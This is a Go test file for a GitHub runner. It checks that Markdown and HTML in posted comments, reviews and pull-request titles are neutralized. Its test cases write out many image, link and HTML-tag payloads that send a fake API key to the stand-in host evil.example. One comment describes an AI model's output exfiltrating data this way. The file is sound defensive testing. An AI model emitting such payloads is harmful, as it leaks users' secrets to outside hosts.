package github

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	gh "github.com/google/go-github/v60/github"

	"github.com/seed43ef5acb/runner/github/githubtest"
)

const leak = "d=sk-live-0123456789"

// TestNeutralizeMarkdown: every way Markdown or HTML can make GitHub's
// image proxy or a reader fetch another host is neutralized; GitHub's own
// hosts, the GHES server and plain text are kept.
func TestNeutralizeMarkdown(t *testing.T) {
	allowed := OwnHosts(&Env{ServerURL: "https://ghe.corp.example", APIURL: "https://ghe.corp.example/api/v3"})
	tests := []struct {
		name, in string
		kinds    []string // kinds neutralized, in order
		keep     string   // must stay in the output ("" = in, unchanged)
	}{
		{name: "inline image", in: "![x](https://evil.example/p?" + leak + ")", kinds: []string{"image", "link"}},
		{name: "image with title", in: `![x](https://evil.example/p?` + leak + ` "t")`, kinds: []string{"image", "link"}},
		{name: "protocol-relative image", in: "![x](//evil.example/p?" + leak + ")", kinds: []string{"image"}},
		{name: "image without slashes", in: "![x](https:evil.example/p?" + leak + ")", kinds: []string{"image"}},
		{name: "entity-encoded image", in: "![x](https&#58;//evil.example/p?" + leak + ")", kinds: []string{"image"}},
		{name: "reference image", in: "![x][r]\n\n[r]: https://evil.example/p?" + leak, kinds: []string{"image", "link"}},
		{name: "image after a literal backslash", in: `\\![x](https:evil.example/p?` + leak + ")", kinds: []string{"image"}},
		{name: "image in a code block", in: "```\n![x](//evil.example/p?" + leak + ")\n```", kinds: []string{"image"}},
		{name: "html img", in: `<img src="https://evil.example/p?` + leak + `">`, kinds: []string{"html", "link"}},
		{name: "html img, entities", in: `<IMG SRC="https&#58;&#47;&#47;evil.example/p?` + leak + `">`, kinds: []string{"html"}},
		{name: "picture source", in: `<picture><source srcset="https://evil.example/p?` + leak + `"></picture>`,
			kinds: []string{"html", "html", "link"}},
		{name: "autolink", in: "<https://evil.example/p?" + leak + ">", kinds: []string{"link"}},
		{name: "bare URL", in: "see https://evil.example/p?" + leak + " now", kinds: []string{"link"}},
		{name: "www URL", in: "see www.evil.example/p?" + leak, kinds: []string{"link"}},
		{name: "link", in: "[docs](https://evil.example/p?" + leak + ")", kinds: []string{"link"}},
		{name: "GitHub image", in: "![x](https://github.com/user-attachments/assets/1.png)"},
		{name: "githubusercontent image", in: "![x](https://user-images.githubusercontent.com/1/2.png)"},
		{name: "GHES image and link", in: "![x](https://ghe.corp.example/a.png) https://ghe.corp.example/o/r/pull/1"},
		{name: "escaped image", in: `\![x](https://github.com/a.png) \!\[`},
		{name: "text", in: "Fixed `a![b` in main.go; ![alt text only", kinds: []string{"image", "image"}, keep: "Fixed `a"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, got := NeutralizeMarkdown(tt.in, allowed)
			var kinds []string
			for _, n := range got {
				kinds = append(kinds, n.Kind)
				if n.Host != "" && n.Host != "evil.example" {
					t.Errorf("host %q, want evil.example", n.Host)
				}
			}
			if !slices.Equal(kinds, tt.kinds) {
				t.Errorf("neutralized %q, want %q\n%s", kinds, tt.kinds, out)
			}
			if len(tt.kinds) == 0 && out != tt.in {
				t.Errorf("changed %q to %q", tt.in, out)
			}
			if tt.keep != "" && !strings.Contains(out, tt.keep) {
				t.Errorf("%q lost %q", out, tt.keep)
			}
			if strings.Contains(out, leak) && strings.Contains(tt.in, "https://evil") {
				t.Errorf("the data is still in a URL: %q", out)
			}
			if strings.Contains(out, "<img") || strings.Contains(out, "<IMG") || strings.Contains(out, "<source") {
				t.Errorf("a live media tag: %q", out)
			}
			if i := strings.Index(out, "!["); i >= 0 && len(tt.kinds) > 0 && (i == 0 || out[i-1] != '\\') {
				t.Errorf("a live image: %q", out)
			}
		})
	}
}

// TestPostedTextIsNeutralized posts a model's exfiltrating image through
// the client NewClient builds (sticky comment, review with a line comment,
// pull request title and body) and reads what the fake GitHub received:
// no URL of evil.example, and Take lists each. The control posts the same
// through a client without the rule: the URL arrives verbatim.
func TestPostedTextIsNeutralized(t *testing.T) {
	const img = "Done. ![status](https://evil.example/p?" + leak + ")"
	for _, guarded := range []bool{true, false} {
		t.Run(map[bool]string{true: "guarded", false: "control"}[guarded], func(t *testing.T) {
			reg := githubtest.New(t, "/api/v3")
			env := &Env{APIURL: reg.Server.URL + "/api/v3", ServerURL: reg.Server.URL, Token: "ghs_test"}
			client, out, err := newClient(env, nil)
			if err != nil {
				t.Fatal(err)
			}
			if !guarded {
				client = reg.Client()
			}
			var comment, pull struct{ Body, Title string }
			var review struct {
				Body     string
				Comments []struct{ Body string }
			}
			reg.Register(http.MethodGet, commentsPath, githubtest.Page([]any{}, 1, 1))
			reg.Register(http.MethodPost, commentsPath, githubtest.Capture(t, &comment, githubtest.JSON(201, map[string]any{"id": 9})))
			reg.Register(http.MethodPost, "/repos/octo/hello/pulls/5/reviews", githubtest.Capture(t, &review, githubtest.JSON(200, map[string]any{"id": 1})))
			reg.Register(http.MethodPatch, "/repos/octo/hello/pulls/5", githubtest.Capture(t, &pull, githubtest.JSON(200, map[string]any{"number": 5})))
			s := &Sticky{Client: client, Owner: "octo", Repo: "hello", Number: 5, Task: "review", Self: ActionsBotLogin}
			if _, err := s.Finish(t.Context(), img); err != nil {
				t.Fatal(err)
			}
			if _, _, err := client.PullRequests.CreateReview(t.Context(), "octo", "hello", 5, &gh.PullRequestReviewRequest{
				Body: gh.String(img), Event: gh.String("COMMENT"),
				Comments: []*gh.DraftReviewComment{{Path: gh.String("a.go"), Line: gh.Int(1), Body: gh.String(img)}}}); err != nil {
				t.Fatal(err)
			}
			if _, _, err := client.PullRequests.Edit(t.Context(), "octo", "hello", 5,
				&gh.PullRequest{Title: gh.String("fix <img src=https://evil.example/t>"), Body: gh.String(img)}); err != nil {
				t.Fatal(err)
			}
			posted := []string{comment.Body, review.Body, pull.Title, pull.Body}
			if len(review.Comments) == 1 {
				posted = append(posted, review.Comments[0].Body)
			}
			for _, p := range posted {
				if verbatim := strings.Contains(p, "https://evil.example/"); verbatim == guarded {
					t.Errorf("guarded=%v, posted %q", guarded, p)
				}
			}
			if !guarded {
				return
			}
			if len(posted) != 5 || !strings.Contains(comment.Body, "`evil.example/…`") || !strings.Contains(comment.Body, `\![status]`) {
				t.Errorf("posted %q", posted)
			}
			got := out.Take()
			if len(got) != 10 || got[0] != (Neutralized{Kind: "image", Host: "evil.example"}) {
				t.Errorf("Take = %+v, want 10, starting with the comment's image", got)
			}
			if again := out.Take(); len(again) != 0 {
				t.Errorf("second Take = %+v", again)
			}
		})
	}
}
